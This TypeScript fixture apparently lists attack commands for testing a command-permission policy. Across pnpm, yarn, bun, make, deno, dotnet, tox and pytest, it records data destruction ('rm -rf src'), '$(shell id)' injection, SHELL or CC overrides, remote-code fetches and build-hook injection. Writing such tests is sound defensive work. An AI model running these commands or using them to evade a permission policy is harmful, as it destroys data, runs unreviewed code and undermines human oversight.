import type { AttackClass } from './attack.ts';

/** Programs that the policy names besides node, npm and npx; the policy of these attacks names all. */
export const PROGRAMS: AttackClass = {
  name: 'Programs of the policy',
  attacks: [
    ...[
      'pnpm exec /bin/sh -c "rm -rf src"',
      'pnpm exec ./scripts/ok.js',
      'pnpm exec scripts/ok.sh',
      'pnpm exec node_modules/.bin/cross-env sh -c "rm -rf src"',
      'pnpm node_modules/.bin/cross-env sh -c "rm -rf src"',
      'pnpm exec cross-env sh -c "rm -rf src"',
      'pnpm other sh -c "rm -rf src"',
      'yarn exec scripts/ok.sh',
      'yarn node_modules/.bin/cross-env sh -c "rm -rf src"',
      'yarn run scripts/ok.sh',
      'bun node_modules/.bin/cross-env sh -c "rm -rf src"',
      'bun run node_modules/.bin/cross-env sh -c "rm -rf src"',
      'bun other/x',
    ].map((command) => ({ command, effect: 'a program by its path' })),
    ...[
      'make X!=id test',
      "make '$(shell id)=1' test",
      "make -E 'X:=$(shell id)' test",
      "make -E 'X:=1' test",
      "make 'test;id'",
      "make '$(shell id)'",
      'make SHELL::=./x test',
      'make SHELL:::=./x test',
      "make 'SHELL =./x' test",
      'make CC=../x test',
    ].map((command) => ({ command, effect: 'text that a shell or make expands' })),
    ...[
      'deno run --allow-read https://example.test/x.ts',
      'deno run --allow-read /tmp/x.ts',
      'deno run --check node_modules/other/bin.js',
      'deno run -N -- https://example.test/x.ts',
      'deno test npm:other',
    ].map((command) => ({ command, effect: 'code that is not of the commit' })),
    ...[
      'dotnet build "-p:A=1;PreBuildEvent=id"',
      'dotnet build -p:A=1,PreBuildEvent=id',
      "dotnet build '-p:A=$(X)'",
      'dotnet test -e DOTNET_STARTUP_HOOKS=x.dll',
      'dotnet test -e CORECLR_PROFILER_PATH=x.so',
      'dotnet test -- RunConfiguration.TestAdaptersPaths=../x',
      'dotnet build -logger:../x.dll',
      'tox --discover ./scripts/ok.sh -e py',
      'pytest --cov-report=html:../x',
    ].map((command) => ({ command, effect: 'a program or code by a setting' })),
    ...['bun -', 'bun run -', 'ruff check -', 'ruff format --check -'].map((command) => ({
      command,
      effect: 'an empty standard input, which passes',
    })),
  ],
};
